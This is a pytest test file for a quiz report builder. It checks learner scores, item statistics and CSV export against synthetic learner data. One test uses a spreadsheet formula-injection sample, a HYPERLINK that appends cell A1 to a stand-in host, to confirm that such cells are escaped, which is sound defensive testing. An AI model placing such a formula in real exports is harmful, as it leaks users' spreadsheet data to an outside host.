"""Trainer report over three synthetic learners, checked against hand-computed numbers."""

from __future__ import annotations

import csv
import io

import pytest

from db.learners import ensure_learner
from db.progress import open_progress
from quiz.answers import record_answer
from quiz.report import LearnerResult, build_report, read_learners

# learner -> [(question, correct)] in the order answered
HISTORIES = {
    "Ana": [("q1", True), ("q2", True), ("q3", True), ("q1", False)],
    "Ben": [("q1", True), ("q2", False), ("q3", False), ("q2", True)],
    "Cy": [("q1", False), ("q2", False), ("q1", True)],
}


@pytest.fixture
def files(tmp_path):
    paths = []
    for name, history in HISTORIES.items():
        db = open_progress(tmp_path / f"{name}.db")
        learner = ensure_learner(db, name)
        for n, (qid, ok) in enumerate(history):
            record_answer(db, learner_id=learner, pack_id="p", question_id=qid, response=None, correct=ok,
                          score=float(ok), elapsed_ms=1000, mode="exam", session_id="x",
                          answered_at=f"2026-11-0{n + 1}T10:00:00+00:00")
        db.close()
        paths.append(tmp_path / f"{name}.db")
    return paths


def test_facility_and_scores_match_hand_computation(files):
    learners = [r for path in files for r in read_learners(path)]
    report = build_report(learners, topic_of=lambda q: "numbers" if q == "q1" else "words")
    scores = {learner.name: round(learner.score, 4) for learner in report.learners}
    # First attempts: Ana 3/3, Ben 1/3, Cy 0/2 (later retries do not count).
    assert scores == {"Ana": 1.0, "Ben": 0.3333, "Cy": 0.0}
    facility = {i.question_id: round(i.facility, 4) for i in report.items}
    # q1: Ana ✓ Ben ✓ Cy ✗ -> 2/3; q2: Ana ✓ Ben ✗ Cy ✗ -> 1/3; q3: Ana ✓ Ben ✗ -> 1/2.
    assert facility == {"q1": 0.6667, "q2": 0.3333, "q3": 0.5}
    assert [i.attempts for i in report.items] == [3, 3, 2]
    # Weakest topic first: words (1/3 + 1/2) / 2 = 0.4167 < numbers 0.6667.
    assert [(t, round(f, 4)) for t, f in report.topics] == [("words", 0.4167), ("numbers", 0.6667)]


def test_discrimination_is_corrected_item_total_correlation(files):
    report = build_report([r for path in files for r in read_learners(path)])
    q2 = next(i for i in report.items if i.question_id == "q2")
    # q2 right: Ana 1, Ben 0, Cy 0; rest scores: Ana (q1,q3)=1.0, Ben (q1,q3)=0.5, Cy (q1)=0.0.
    # means 1/3 and 0.5: sum of products 0.5, sxx = 2/3, syy = 0.5 -> r = 0.5 / sqrt(1/3) = 0.8660
    assert q2.discrimination == pytest.approx(0.8660, abs=1e-4)
    q3 = next(i for i in report.items if i.question_id == "q3")
    assert q3.discrimination == pytest.approx(1.0)  # two takers; the better one got it right


def test_learner_files_are_not_modified(files):
    before = [p.read_bytes() for p in files]
    read_learners(files[0])
    assert [p.read_bytes() for p in files] == before


def test_csv_lists_learners_items_and_topics(files):
    report = build_report([r for path in files for r in read_learners(path)], topic_of=lambda q: "t")
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    assert {r["kind"] for r in rows} == {"learner", "question", "topic"}
    assert next(r for r in rows if r["id"] == "q1")["facility_or_score"] == "0.6667"


def test_file_names_with_uri_characters_are_read(files, tmp_path):
    """Learners name files as they like; '#', '?' and '%' must not cut the path short."""
    renamed = tmp_path / "week #1 ?50%.db"
    files[0].rename(renamed)
    assert [(r.name, r.first_attempts) for r in read_learners(renamed)] == [
        ("Ana", {"q1": True, "q2": True, "q3": True})]


def test_csv_cells_from_learner_files_and_packs_never_run_as_formulas(files):
    """Learner names come from someone else's file: ``=HYPERLINK(…)`` must stay text in a spreadsheet."""
    learners = [LearnerResult("a.db", '=HYPERLINK("http://x.invalid/?"&A1,"Click")', {"q1": True, "@q2": False}),
                LearnerResult("b.db", "Ben", {"q1": False, "@q2": True})]
    report = build_report(learners, topic_of=lambda q: "+topic")
    rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    learner = next(r for r in rows if r["kind"] == "learner" and r["id"] != "Ben")
    assert learner["id"] == "'" + learners[0].name
    assert {r["id"] for r in rows if r["kind"] == "question"} == {"q1", "'@q2"}
    assert {r["topic"] for r in rows if r["kind"] != "learner"} == {"'+topic"}
    # numbers stay numbers: a negative discrimination is not mistaken for a formula
    assert {r["discrimination"] for r in rows if r["kind"] == "question"} == {"-1.0000"}
